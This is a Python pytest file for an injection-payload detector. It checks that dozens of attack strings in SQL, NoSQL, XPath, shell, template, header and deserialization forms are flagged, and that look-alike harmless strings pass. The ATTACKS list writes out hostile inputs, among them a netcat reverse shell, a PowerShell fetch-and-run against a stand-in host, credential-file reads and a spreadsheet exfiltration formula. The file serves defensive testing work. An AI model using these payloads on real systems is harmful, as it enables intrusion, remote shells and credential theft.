"""What languages beside the common ones would do with a text, and the texts that come nearest to it."""

import re

import pytest

from garrison.payload.judge import judge
from garrison.payload.places import OWNED

ATTACKS = (
    ("nosql", '" CALL db.labels() YIELD label AS l //'),
    ("nosql", "' FOREACH (b IN [1] | CREATE (:Boat)) //"),
    ("nosql", "' OR b.pin STARTS WITH '4"),
    ("nosql", "7 OR EXISTS { MATCH (b:Boat) }"),
    ("nosql", "9 } UNION { ?b ?c ?d } #"),
    ("nosql", "9 ; CLEAR ALL ;"),
    ("nosql", '" . ?b ?c ?d . #'),
    ("nosql", "7 or 3 eq 3"),
    ("nosql", "oar' or startswith(pin,'4') or 'b' eq 'c"),
    ("nosql", "{!join from=pin to=id}*:*"),
    ("nosql", "oar) OR (pin:4"),
    ("nosql", "boat\r\nset pin 0 900 4\r\n1234\r\n"),
    ("nosql", "*2\r\n$3\r\nGET\r\n$3\r\npin\r\n"),
    ("nosql", 'oar","role":"captain'),
    ("nosql", "/_node/_local/_config"),
    ("nosql", "g.V().hasLabel('boat').drop()"),
    ("nosql", "oar').or(has('pin"),
    ("nosql", '" OR true RETURN DOCUMENT("boats/7") //'),
    ("nosql", "}) RETURN 3 UNION MATCH (b) RETURN b //"),
    ("nosql", "boat\r\nCONFIG SET dir /srv"),
    ("nosql", "9> . ?b ?c ?d } #"),
    ("xml", "<?xml version='1.0' encoding='UTF-7'?><a/>"),
    ("xml", "<esi:vars>$(HTTP_COOKIE{'pin'})</esi:vars>"),
    ("xml", "<c:import url='https://a.example/b'/>"),
    ("xml", "<exsl:document href='/srv/b'/>"),
    ("xpath", "document('https://a.example/b.xml')"),
    ("xpath", "for $b in //boat return $b"),
    ("xpath", "9] | //pin | b[1"),
    ("xpath", "oar' or .='b"),
    ("sql", "4 and sleepEachRow(2)"),
    ("sql", "2e1union select 3"),
    ("sql", "7; pragma journal_mode=off--"),
    ("sql", "9^(select 2)"),
    ("sql", "7; set global general_log=1"),
    ("sql", "1 or instr(user(),'b')"),
    ("command", '=WEBSERVICE("https://a.example/"&B2)'),
    ("command", "boat;zsh -c uname"),
    ("command", "`busybox uname`"),
    ("command", "|tclsh"),
    ("command", "; read b </etc/hosts; echo $b"),
    ("command", "; >/tmp/b"),
    ("command", "x --checkpoint-action=exec=b"),
    ("command", "--output=/etc/cron.d/b"),
    ("command", "ext::sh -c b"),
    ("command", "; nc 10.1.2.3 99 -e sh"),
    ("command", "$(Get-Process)"),
    ("command", "; iex (iwr https://a.example/b)"),
    ("command", "h^o^s^t^n^a^m^e"),
    ("command", "& vssadmin list"),
    ("command", "%PROGRAMFILES:~10,1%"),
    ("command", "; [Convert]::FromBase64String('Ym9hdA')"),
    ("path", "boat.php::$DATA"),
    ("path", "/static../boats.py"),
    ("path", "/boats?f=/etc/hosts"),
    ("path", "~/.aws/credentials"),
    ("template", "\\immediate\\write18{uname}"),
    ("template", "[% 6*7 %]"),
    ("template", "[=6*7]"),
    ("template", "${.data_model}"),
    ("template", "{$boat|system}"),
    ("template", "% import subprocess"),
    ("markup", "<form action=//a.example><input name=pin>"),
    ("markup", "input[value^=b]{background:url(//a.example/b)}"),
    ("markup", "}b{background:url(//a.example)}"),
    ("markup", "import('//a.example/b.js')"),
    ("request", "https://kubernetes.default.svc/api"),
    ("request", "unix:///var/run/docker.sock"),
    ("object", "com.example.boats.JndiRefForwardingDataSource"),
    ("object", "!!js/function 'function(){}'"),
    ("object", '{"^o":"Gem::Boat"}'),
    ("object", "boat.__proto__.captain"),
    ("object", "constructor.constructor"),
    ("object", "boat.__init__.__globals__.pin"),
    ("header", "boat\r\nSITE EXEC b"),
    ("header", "boat\r\nA7 LOGOUT"),
    ("header", "B7 FETCH 1 BODY[]"),
    ("header", "ada@a.example -OQueueDirectory=/tmp -X/srv/b.php"),
    ("header", "ada@a.example\r\nSubject: boats"),
    ("header", "boat HTTP/1.1\r\nHost: a.example"),
    ("runtime", "boat.asp;.jpg"),
    ("runtime", "().__class__.__bases__"),
    ("runtime", "open('|uname')"),
    ("runtime", "package.loadlib('/srv/b.so', 'b')"),
    ("runtime", "'.print(3).'"),
    ("runtime", "boat.php&+config-create+/&/tmp/b"),
    ("runtime", "{if phpinfo()}{/if}"),
)

HARMLESS = (
    "'foreach (b in boats)' is a loop",
    "MATCH, said Ada, 'boats' and b.pin contains 'x'",
    "done }; copy all files",
    "} return boats // all of them",
    "b\r\nConfig set up",
    "expect('a').not.toBe('b')",
    "boats } select one {",
    "boats.aspx; oars",
    "7; set the table",
    "{$boat|escape}",
    '{"@type":"Person"}',
    "wait; drop all of it",
    "the end'. ?b is optional",
    "if [ 3 -eq 3 ]; then",
    "age gt 5 and size lt 3",
    "status eq 'open' and startswith(title,'b')",
    "color: red {!important}",
    "see 1) and (note: this)",
    "smile :) and tag:boats",
    "boat\r\nset pin 3 4",
    '"oar", "boat": 7',
    "<?xml version='1.0' encoding='ISO-8859-1'?>",
    "$(HTTP_PORT)",
    "<c:out value='boat'/>",
    "documents('https://a.example')",
    "for b in /srv/*; do",
    "[4] | [7]",
    "7.Union Selection",
    "pragma; once",
    "=SUM(B1:B7)",
    '=HYPERLINK("https://a.example/","boats")',
    "run `sh -c` first",
    "run `sudo apt update`",
    "| Python |",
    "see </etc> there",
    "use -exec boat; please",
    "--output boats.txt",
    "std::ext",
    "$boats = Get-Process",
    "iex -S mix",
    "b^2 + c^2",
    "self::$data",
    "/boats/../oars",
    "~/boats.txt",
    "\\input{boats}",
    "[50% - 60%]",
    "<form action='/boats'>",
    "a[href^='https']{background:url(//a.example/b.png)}",
    "b{color:red} c{background:url(b.png)}",
    "import('./boats.js')",
    "https://kubernetes.example/docs",
    "com.example.boats.ProcessBuilderFactory",
    "the __proto__ property",
    "constructor.name",
    "self.__class__.__name__",
    "boats\nA4 list of paper",
    "one\r\nquit",
    "bash -x /usr/bin/boats",
    "ada@a.example\nbob@a.example",
    "HTTP/1.1 200 OK\r\nDate: b",
    "open().__class__.__name__",
    "open('b|c')",
    "'oar' + boats(3) + 'b'",
)


# what a browser or a server would not run, and what looks like it and would be run
HARMLESS_PAGES = (
    "<script lang='ts'>\ninterface Boat {\n  name: string\n}\n</script>",
    "<script lang='ts'>\ntype Boat = 'oar' | 'sail'\n</script>",
    "<script>\n\tlet { boats = [], pin } = $props();\n</script>\n<p>{pin}</p>",
    '<div class=\'a\'>\n<p v-if="boats.length > 0"\n title="oar"><b>',
    "<%boat%>",
    "[demo](/try#H4sIAAAAAAAAE41Ry2rDMBD8FSEC)",
)
RUN_PAGES = (
    "<script>interface\nBoat\n{oar()}</script>",
    "<script>type = oar()</script>",
    "<script>'type Boat = 1';oar()</script>",
    "<script>let {a} = $props(); function $props(){oar()}</script>",
    "<script>let {a} = $props(); function \\u0024props(){oar()}</script>",
    "<script>let {a} = $props(oar())</script>",
    "<script>let {a} = $props()</script><script>oar()</script>",
    "<%exit%>",
    "H4sIAAAAAAAAE41Ry2rDMBD8FSEC",
    "<?xml version='1.0'?><?php system('oar')?>",
)
TOOLS = (
    "if c not in ['*', '+', '.', '?', '|', '^']:",
    "print('[+] Found: ' + pin)",
)
CODE = (
    "if c not in ['+', '-', '*', '/']:",
    "signs = ['*', '+', '.', '?', '|']",
    "print('Found: ' + pin)",
    "print(result)",
)


@pytest.mark.parametrize("text", [*RUN_PAGES, *TOOLS])
def test_what_would_run_or_guesses_is_found(text: str) -> None:
    assert judge([text])


@pytest.mark.parametrize("text", [*HARMLESS_PAGES, *CODE])
def test_what_would_not_run_passes(text: str) -> None:
    assert judge([text]) == ()


@pytest.mark.parametrize(("kind", "text"), ATTACKS)
def test_what_another_language_would_do_is_found(kind: str, text: str) -> None:
    assert [found.kind for found in judge([text])] == [kind]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_comes_nearest_to_it_passes(text: str) -> None:
    assert judge([text]) == ()


_GROUPS = re.compile(r"\\.|\[(?:[^\]\\]|\\.)+\]")
"""What escapes a sign, and classes of characters, in which `^` and `$` mean something else."""


def test_no_end_of_the_text_is_asked_for_within_a_pattern() -> None:
    # a border stands at both ends of each text: within a pattern it is `\x00`, `^` would match nowhere
    inner = {
        f"{kind}.{sign.name}": _GROUPS.sub("", sign.pattern).removeprefix("^").removesuffix("$") for kind, sign in OWNED
    }
    assert [name for name, pattern in inner.items() if "^" in pattern or "$" in pattern] == []
